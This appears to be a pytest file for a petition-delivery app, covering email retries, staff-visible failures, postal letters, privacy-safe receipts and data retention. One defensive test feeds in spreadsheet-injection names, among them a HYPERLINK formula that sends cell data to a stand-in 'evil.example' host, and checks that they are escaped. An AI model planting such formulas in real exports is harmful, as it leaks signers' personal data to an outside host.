"""Sending a delivery: retries, failures staff can see, letters to post, receipts anyone
can check, and lists a spreadsheet cannot be tricked by."""

# ruff: noqa: RUF001
from __future__ import annotations

import base64
import csv
import hashlib
import io
from datetime import timedelta

import pytest
import time_machine
from django.urls import reverse
from django.utils import timezone

from undersigned.deliveries import sending
from undersigned.deliveries.models import Delivery, DeliveryAttempt
from undersigned.deliveries.rendering import render_delivery
from undersigned.privacy.models import AuditEntry

from .conftest import run_worker
from .delivery_helpers import (
    bulk_confirmed,
    lawmaker,
    local_campaign,
    places,
    sign_and_confirm,
    smtp_server,  # noqa: F401 (the smtp fixture)
)

pytestmark = pytest.mark.django_db

MAYOR = "mayor@somerville.example.org"
State = DeliveryAttempt.State


@pytest.fixture
def campaign():
    somerville, _ = places()
    lawmaker(somerville, "Mayor Fictional", "mayor", email=MAYOR)
    return local_campaign()


def later(minutes: float):
    """Move the clock on, so that retries scheduled with backoff become due."""
    return time_machine.travel(timezone.now() + timedelta(minutes=minutes), tick=True)


def test_a_server_that_refuses_the_first_tries_gets_the_letter_once(campaign, smtp):
    somerville, _ = places()
    bulk_confirmed(campaign, somerville, 100)
    smtp.refusals = ["451 4.3.0 Try again later", "421 4.7.0 Busy, come back later"]
    run_worker()
    attempt = DeliveryAttempt.objects.get()
    assert (attempt.state, attempt.attempts) == (State.PENDING, 1)
    assert attempt.last_error == "SMTPDataError 451"  # the code, never the reply text
    assert smtp.letters() == []
    with later(1.5):
        run_worker()  # the second try, after a minute
    attempt.refresh_from_db()
    assert (attempt.state, attempt.attempts) == (State.PENDING, 2)
    with later(1.5 + 2.5):
        run_worker()  # the third, two minutes after that
    attempt.refresh_from_db()
    assert (attempt.state, attempt.attempts, attempt.last_error) == (State.SENT, 3, "")
    (letter,) = smtp.to(MAYOR)
    assert letter["Message-ID"] == attempt.message_id
    with later(60):
        run_worker()
    assert len(smtp.to(MAYOR)) == 1


def test_an_attempt_refused_for_good_is_marked_failed_for_staff_who_can_retry_it(
    campaign, smtp, staff_client
):
    somerville, _ = places()
    bulk_confirmed(campaign, somerville, 100)
    smtp.refusals = ["554 5.7.1 Rejected"]
    run_worker()
    attempt = DeliveryAttempt.objects.get()
    # A 5xx reply is the server's final word (RFC 5321): no retry without staff.
    assert (attempt.state, attempt.attempts) == (State.FAILED, 1)
    with later(60 * 24):
        run_worker()
    assert DeliveryAttempt.objects.get().attempts == 1
    listing = staff_client.get(reverse("admin:deliveries_delivery_changelist"))
    assert b"1 failed" in listing.content
    page = staff_client.get(reverse("admin:deliveries_delivery_change", args=[attempt.delivery_id]))
    assert b"SMTPDataError 554" in page.content
    staff_client.post(
        reverse("admin:deliveries_delivery_changelist"),
        {"action": "retry_failed", "_selected_action": [str(attempt.delivery_id)]},
    )
    run_worker()
    attempt.refresh_from_db()
    assert attempt.state == State.SENT
    assert len(smtp.to(MAYOR)) == 1


def test_an_attempt_refused_for_now_is_given_up_after_hours_not_after_a_number_of_tries(
    campaign, smtp
):
    somerville, _ = places()
    bulk_confirmed(campaign, somerville, 100)
    smtp.refusals = ["451 4.3.0 Try again later"] * 1000
    run_worker()
    hours = sending.LETTERS.give_up_after / timedelta(hours=1)
    minutes = 0
    while minutes < (hours - 1) * 60:
        minutes += 31  # the longest wait between tries is 30 minutes
        with later(minutes):
            run_worker()
    attempt = DeliveryAttempt.objects.get()
    assert attempt.state == State.PENDING  # still trying, whatever the number of tries
    assert attempt.attempts > 100
    with later(hours * 60 + 31):
        run_worker()
    attempt.refresh_from_db()
    assert (attempt.state, attempt.last_error) == (State.FAILED, "SMTPDataError 451")
    assert smtp.letters() == []


def test_a_lawmaker_without_email_gets_a_printed_letter_staff_download_and_mark_mailed(
    staff_client, smtp
):
    somerville, _ = places()
    lawmaker(somerville, "Council Fictional", "council", postal="93 Highland Ave\nSomerville, MA")
    campaign = local_campaign()
    bulk_confirmed(campaign, somerville, 100)
    run_worker()
    attempt = DeliveryAttempt.objects.get()
    assert attempt.state == State.AWAITING_MAILING
    assert smtp.letters() == []
    delivery = attempt.delivery
    pack = staff_client.get(reverse("admin:deliveries_delivery_pack", args=[delivery.pk]))
    assert pack.status_code == 200
    assert pack["Content-Type"] == "application/pdf"
    assert pack.content.startswith(b"%PDF")
    assert AuditEntry.objects.get().action == "export"  # a list of names left the system
    staff_client.post(
        reverse("admin:deliveries_delivery_changelist"),
        {"action": "mark_mailed", "_selected_action": [str(delivery.pk)]},
    )
    attempt.refresh_from_db()
    assert (attempt.state, attempt.mailed_by) == (State.SENT, "staff")
    delivery.refresh_from_db()
    assert delivery.completed_at is not None


def test_the_receipt_shows_no_personal_data_and_its_hash_matches_the_pdf(client, campaign, smtp):
    somerville, _ = places()
    sign_and_confirm(campaign, somerville, 100)
    run_worker()
    (letter,) = smtp.to(MAYOR)
    delivery = Delivery.objects.get()
    body = letter.get_body(("plain",)).get_content()
    url = delivery.get_absolute_url()
    assert url in body
    page = client.get(url)
    assert page.status_code == 200
    html = page.content.decode()
    (pdf,) = [p for p in letter.iter_attachments() if p.get_filename().endswith(".pdf")]
    assert hashlib.sha256(pdf.get_content()).hexdigest() in html
    for needle in ("Somerville, MA", "Signers 1–100", "Mayor of Somerville", "100 signers"):
        assert needle in html
    for n in range(100):
        assert f"Signer{n} " not in html
        assert f"signer{n}@" not in html
    assert "02143" not in html
    assert "@" not in html.replace("mayor@", "")  # no address at all, not even the mayor's
    assert MAYOR not in html


def test_rendering_a_delivery_twice_gives_the_same_bytes(campaign):
    somerville, _ = places()
    bulk_confirmed(campaign, somerville, 100)
    from undersigned.counting.actions import process_all_count_events

    process_all_count_events()
    delivery = Delivery.objects.select_related("campaign", "division", "letter_version").get()
    first = render_delivery(delivery)
    second = render_delivery(delivery)
    assert first.pdf == second.pdf and first.csv == second.csv
    sending.dispatch(delivery.pk)
    delivery.refresh_from_db()
    assert base64.b64decode(delivery.pdf) == first.pdf
    assert delivery.pdf_sha256 == hashlib.sha256(first.pdf).hexdigest()


def test_list_cells_a_spreadsheet_would_run_are_escaped(campaign, smtp):
    somerville, _ = places()
    from undersigned.signatures.actions import SignerDetails, confirm, sign
    from undersigned.signatures.links import confirm_token

    names = ['=HYPERLINK("https://evil.example/?"&A2,"x")', "+1", "-2+3", "@SUM(A1)"]
    for n, name in enumerate(names):
        result = sign(
            campaign,
            SignerDetails(
                email=f"tricky{n}@example.org",
                first_name=name,
                last_name="",
                postal_code="02143",
                country="US",
                divisions=((somerville, "lookup"),),
            ),
        )
        confirm(
            result.signature.pk, confirm_token(result.signature.pk, result.signature.link_version)
        )
    bulk_confirmed(campaign, somerville, 96)
    run_worker()
    (letter,) = smtp.to(MAYOR)
    (attachment,) = [p for p in letter.iter_attachments() if p.get_filename().endswith(".csv")]
    rows = list(csv.reader(io.StringIO(attachment.get_content())))
    assert [row[1] for row in rows[1:5]] == [f"'{name}" for name in names]
    assert rows[0] == ["number", "name", "city or postal code"]


def test_signers_e_mail_addresses_are_listed_only_when_the_campaign_says_so(campaign, smtp):
    somerville, _ = places()
    campaign.delivery_rules.update(include_emails=True)
    bulk_confirmed(campaign, somerville, 100)
    run_worker()
    (letter,) = smtp.to(MAYOR)
    (attachment,) = [p for p in letter.iter_attachments() if p.get_filename().endswith(".csv")]
    rows = list(csv.reader(io.StringIO(attachment.get_content())))
    assert rows[0][-1] == "email" and rows[1][-1] == "bulk0@example.org"


def test_a_delivered_signer_who_erases_their_data_stays_in_the_count_anonymously(campaign, smtp):
    from undersigned.counting.counts import confirmed_count
    from undersigned.signatures.models import Signature
    from undersigned.signatures.rights import erase

    somerville, _ = places()
    ids = bulk_confirmed(campaign, somerville, 100)
    run_worker()
    erase(Signature.objects.get(pk=ids[0]))
    run_worker()
    signature = Signature.objects.get(pk=ids[0])
    assert (signature.status, signature.first_name) == ("confirmed", "")
    assert confirmed_count(campaign) == 100
    assert Delivery.objects.get().signer_count == 100
    assert len(smtp.to(MAYOR)) == 1


def test_retention_erases_the_stored_letters_but_the_receipt_keeps_the_hash(client, campaign, smtp):
    from undersigned.campaigns.actions import close_campaign
    from undersigned.retention.rules import purge

    somerville, _ = places()
    bulk_confirmed(campaign, somerville, 100)
    run_worker()
    close_campaign(campaign)
    delivery = Delivery.objects.get()
    assert delivery.pdf
    with later(60 * 24 * 240):  # eight months on
        counts = purge()
    assert counts["delivered signer lists erased"] == 1
    delivery.refresh_from_db()
    assert (delivery.pdf, delivery.csv) == ("", "")
    assert delivery.pdf_sha256 in client.get(delivery.get_absolute_url()).content.decode()
